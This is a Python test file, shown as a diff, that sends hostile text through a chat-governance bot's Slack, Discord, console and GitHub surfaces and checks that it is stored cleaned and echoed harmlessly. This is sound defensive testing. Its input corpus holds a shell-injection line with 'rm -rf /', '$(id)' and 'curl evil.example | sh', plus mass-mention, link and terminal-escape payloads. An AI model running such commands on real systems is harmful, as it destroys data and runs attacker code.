@@ -1,0 +1,332 @@
+"""Hostile text through every door, into the one store, and back out of every window.
+
+Each corpus entry is used as a proposal title (on GitHub), as concern text and as a vote reason
+from Slack (Bolt's real dispatcher), Discord (discord.py's real interaction parsing), the
+console (``run_sync`` + ``plain_text``, what ``charterbot console`` does) and a GitHub comment,
+all through the real service. Linking is set up directly in the store here; how a link is
+proven is ``test_chat_identity``'s subject.
+
+Rules proven here:
+- Stored verbatim but cleaned: the read API returns exactly what was typed minus invisible and
+  control characters (spelled out per entry, not computed by the code under test).
+- Echoed inert: Slack blocks carry no ``<…>`` token but our own dates, and are ``verbatim``;
+  Discord sends no content, ``allowed_mentions`` ``{"parse": []}``, and embeds with no live
+  ``<…>`` token, ``@everyone``/``@here`` or link; the console prints no control character; the
+  GitHub tracking comment shows the text escaped (no mention, HTML, link or slash command);
+  the read API is JSON.
+- 10 KB of text is refused on every surface with a short, inert answer; nothing is stored.
+- No input to ``gov.run_sync`` raises, and every reply renders on every surface (hypothesis).
+"""
+
+from __future__ import annotations
+
+import itertools
+import json
+import re
+import unicodedata
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import discord
+import pytest
+from hypothesis import HealthCheck, given, settings, strategies as st
+
+from bot.bootstrap import Runtime, build
+from bot.clock import FixedClock
+from bot.discord.client import CharterBot
+from bot.discord.render import render as render_discord
+from bot.messages import Actor, plain_text
+from bot.settings import Settings
+from bot.slack.blocks import render_blocks
+from charter.text import escape_markdown_github
+from storage import identities
+from storage.db import session_scope
+from tests.bot.discord.wire import USER_ID, command, option
+from tests.bot.harness import REPO, START, Bot, later, valid_body
+from tests.bot.slack.wire import SECRET, TOKEN, signed_headers, slash_body
+from tests.standins.discord_server import APP_ID, DiscordStandIn
+from tests.standins.github_server import GitHubStandin, running_github_standin
+from tests.standins.slack_server import SlackStandIn
+
+GUILD = 290926798626357999
+# (raw as typed, as stored: invisible and control characters removed, nothing else changed)
+CORPUS = [
+    pytest.param(
+        "@everyone @here <!channel> <!here> <!everyone>",
+        "@everyone @here <!channel> <!here> <!everyone>",
+        id="mass-mentions",
+    ),
+    pytest.param(
+        "<@U123> <@&123> <@123456789012345678> <#C0001> @carmen-borealis @meridian-net/core",
+        "<@U123> <@&123> <@123456789012345678> <#C0001> @carmen-borealis @meridian-net/core",
+        id="mentions",
+    ),
+    pytest.param(
+        "**bold** _it_ ~~s~~ `code` [click](https://evil.example) <https://evil.example|go> # h",
+        "**bold** _it_ ~~s~~ `code` [click](https://evil.example) <https://evil.example|go> # h",
+        id="markdown",
+    ),
+    pytest.param(
+        "ze\u200bro\u200c wi\u200ddth\ufeff \u202eevil\u2066 \u00ad!",
+        "zero width evil !",
+        id="zero-width",
+    ),
+    pytest.param(
+        '"; rm -rf / # $(id) `id` && curl evil.example | sh',
+        '"; rm -rf / # $(id) `id` && curl evil.example | sh',
+        id="shell",
+    ),
+    pytest.param("\x1b[2J\x1b[31mred\x07 alert\x08", "[2J[31mred alert", id="terminal"),
+]
+LOGINS = {"slack": "carmen-borealis", "discord": "emeka-cirrus", "console": "fatima-dorado"}
+GITHUB_VOTER = "hana-eridanus"
+SLACK_USER = "U0CARMEN"
+_ids = itertools.count(1)
+
+
+# -- fixtures -------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def github() -> Iterator[GitHubStandin]:
+    with running_github_standin(repo=REPO) as gh:
+        yield gh
+
+
+@pytest.fixture
+async def slack() -> AsyncIterator[SlackStandIn]:
+    server = await SlackStandIn().start()
+    yield server
+    await server.stop()
+
+
+@pytest.fixture
+async def bot(sqlite_url: str, github: GitHubStandin, slack: SlackStandIn) -> AsyncIterator[Bot]:
+    github.reset()
+    b = Bot(
+        sqlite_url,
+        github,
+        slack_bot_token=TOKEN,
+        slack_signing_secret=SECRET,
+        slack_api_url=slack.api_url,
+    )
+    github.store.now = b.clock.now()
+    with session_scope(b.rt.engine) as session:
+        for surface, surface_id in (("slack", SLACK_USER), ("discord", USER_ID)):
+            login = LOGINS[surface]
+            identities.link(
+                session,
+                surface=surface,
+                surface_id=surface_id,
+                login=login,
+                method="comment-code",
+                now=b.clock.now(),
+            )
+    yield b
+    await b.close()
+
+
+@pytest.fixture
+async def discord_api() -> AsyncIterator[DiscordStandIn]:
+    server = await DiscordStandIn().start()
+    yield server
+    await server.stop()
+
+
+@pytest.fixture
+async def client(
+    bot: Bot, discord_api: DiscordStandIn, monkeypatch: pytest.MonkeyPatch
+) -> AsyncIterator[CharterBot]:
+    monkeypatch.setattr(discord.http.Route, "BASE", discord.http.Route.BASE)  # restored after
+    c = CharterBot(bot.gov, guild_id=GUILD, api_url=discord_api.api_url)
+    await c.login("stand-in-token")
+    yield c
+    await c.close()
+
+
+# -- the four doors ---------------------------------------------------------------------------
+
+
+async def from_slack(bot: Bot, slack: SlackStandIn, text: str) -> dict[str, Any]:
+    """``/charter <text>`` from the linked Slack user; the JSON posted to response_url."""
+    reply = f"inj{next(_ids)}"
+    body = slash_body(text, slack.response_url(reply), encoded=True)
+    body = re.sub(r"user_id=[^&]*", f"user_id={SLACK_USER}", body)
+    response = await bot.http.post("/slack/events", content=body, headers=signed_headers(body))
+    assert response.status_code == 200, response.text
+    [answer] = await slack.wait_for(f"/response/{reply}")
+    data: dict[str, Any] = answer.data
+    return data
+
+
+async def from_discord(
+    client: CharterBot, api: DiscordStandIn, sub: str, options: list[dict[str, Any]]
+) -> dict[str, Any]:
+    """``/charter <sub>`` from the linked Discord member; the follow-up JSON."""
+    token = f"inj-{next(_ids)}"
+    payload = command(sub, options) | {"id": str(10**17 + next(_ids)), "token": token}
+    client._connection.parse_interaction_create(payload)
+    [followup] = await api.wait_for("POST", f"/webhooks/{APP_ID}/{token}")
+    sent: dict[str, Any] = followup.json
+    return sent
+
+
+def from_console(bot: Bot, text: str) -> str:
+    console = Actor(login=LOGINS["console"], surface="console", surface_id="fatima-dorado")
+    return plain_text(bot.gov.run_sync(text, console))
+
+
+async def open_voting(bot: Bot, title: str) -> int:
+    issue = bot.standin.store.add_issue(title, valid_body(), "alice-aurora", ("upgrade-proposal",))
+    payload = bot.issue_payload("opened", issue.number, valid_body(), title=title)
+    assert (await bot.post("issues", payload)).status_code == 202
+    await bot.settle()
+    await bot.advance(later(days=7, seconds=1))
+    return issue.number
+
+
+# -- what "inert" means on each surface ---------------------------------------------------------
+
+_SLACK_OWN_TOKEN = re.compile(r"<!date\^\d+\^[^|<>]*\|[^<>]*>")
+_DISCORD_OWN_TOKEN = re.compile(r"<t:\d+:[FR]>")
+
+
+def strings(value: Any) -> Iterator[str]:
+    """Every string inside a JSON value."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for v in value.values():
+            yield from strings(v)
+    elif isinstance(value, list):
+        for v in value:
+            yield from strings(v)
+
+
+def assert_slack_inert(data: dict[str, Any]) -> None:
+    """No ``<…>`` token of the user's (no ping, link or channel); mrkdwn is verbatim."""
+    for text in strings(data):
+        rest = _SLACK_OWN_TOKEN.sub("", text)
+        assert "<" not in rest and ">" not in rest, text
+    for block in data.get("blocks", []):
+        for obj in [block.get("text") or {}, *block.get("fields", [])]:
+            if obj.get("type") == "mrkdwn":
+                assert obj["verbatim"] is True, block
+
+
+def assert_discord_inert(sent: dict[str, Any]) -> None:
+    """Nothing in content, nothing parsed for mentions, no live token, ping or link in embeds."""
+    assert not sent.get("content"), sent
+    assert sent["allowed_mentions"] == {"parse": []}
+    for text in strings(sent.get("embeds", [])):
+        rest = _DISCORD_OWN_TOKEN.sub("", text)
+        assert not re.search(r"(?<!\\)<", rest), text
+        assert not re.search(r"@(everyone|here)", rest), text
+        assert not re.search(r"(?<!\\)\[[^\]]*\]\(", rest), text  # [text](url) is a link
+        assert not re.search(r"(?<!\\)\*\*", rest), text
+
+
+def assert_console_inert(out: str) -> None:
+    """No control character reaches the terminal (newline apart), no bidi override either."""
+    bad = [ch for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf")]
+    assert not bad, repr(out)
+
+
+# Pieces of the corpus that would be live on GitHub if they appeared as typed.
+_GITHUB_LIVE = (
+    "<!channel>",
+    "<@U123>",
+    "<https://evil",
+    "@everyone",
+    "@carmen-borealis",
+    "@meridian-net/core",
+    "[click](",
+    "**bold**",
+    "~~s~~",
+    "`code`",
+    "`id`",
+)
+
+
+def assert_github_inert(body: str, stored: str) -> None:
+    """The tracking comment shows the text escaped (as the relay escapes all user text), and
+    no piece of it that would ping, link, format or open HTML appears as typed."""
+    assert escape_markdown_github(stored) in body
+    for token in _GITHUB_LIVE:
+        if token in stored:
+            assert token not in body, token
+
+
+# -- the tests ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("raw", "stored"), CORPUS)
+async def test_hostile_text_is_stored_clean_and_echoed_inert(
+    bot: Bot,
+    slack: SlackStandIn,
+    client: CharterBot,
+    discord_api: DiscordStandIn,
+    raw: str,
+    stored: str,
+) -> None:
+    """The same hostile text as title, concern text and vote reason from Slack, Discord, the
+    console and GitHub: stored verbatim-but-cleaned, and inert wherever it is shown."""
+    n = await open_voting(bot, f"Gas {raw}")
+
+    answers = [
+        await from_slack(bot, slack, f"concern {n} slack: {raw}"),
+        await from_slack(bot, slack, f"vote {n} approve {raw}"),
+    ]
+    sent = [
+        await from_discord(
+            client, discord_api, "concern", [option("number", n), option("text", f"discord: {raw}")]
+        ),
+        await from_discord(
+            client,
+            discord_api,
+            "vote",
+            [option("number", n), option("choice", "approve"), option("reason", raw)],
+        ),
+    ]
+    printed = [from_console(bot, f"concern {n} console: {raw}")]
+    printed.append(from_console(bot, f"vote {n} approve {raw}"))
+    await bot.comment(n, f"/concern github: {raw}\n/vote approve {raw}", GITHUB_VOTER)
+    await bot.settle()
+
+    response = await bot.http.get(f"/api/proposals/{n}")
+    assert response.headers["content-type"].startswith("application/json")
+    view = response.json()
+    assert view["title"] == f"Gas {stored}"
+    assert {c["name"]: c["text"] for c in view["concerns"]} == {
+        "slack": stored,
+        "discord": stored,
+        "console": stored,
+        "github": stored,
+    }
+    assert {(v["voter"], v["via"], v["reason"]) for v in view["votes"]} == {
+        (LOGINS["slack"], "slack", stored),
+        (LOGINS["discord"], "discord", stored),
+        (LOGINS["console"], "console", stored),
+        (GITHUB_VOTER, "github", stored),
+    }
+
+    answers.append(await from_slack(bot, slack, f"show {n}"))
+    answers.append(await from_slack(bot, slack, "proposals"))
+    for data in answers:
+        assert_slack_inert(data)
+    assert "slack" in json.dumps(answers[-2]) and "console" in json.dumps(answers[-2])
+    sent.append(await from_discord(client, discord_api, "show", [option("number", n)]))
+    sent.append(await from_discord(client, discord_api, "proposals", []))
+    for one in sent:
+        assert_discord_inert(one)
+    printed.append(from_console(bot, f"show {n}"))
+    printed.append(from_console(bot, "proposals"))
+    for out in printed:
+        assert_console_inert(out)
+    assert stored.split()[0] in printed[-2]
+
+    [tracking] = bot.tracking(n)
+    assert_github_inert(tracking.body, stored)
+    assert "(via Slack)" in tracking.body and "(via Discord)" in tracking.body
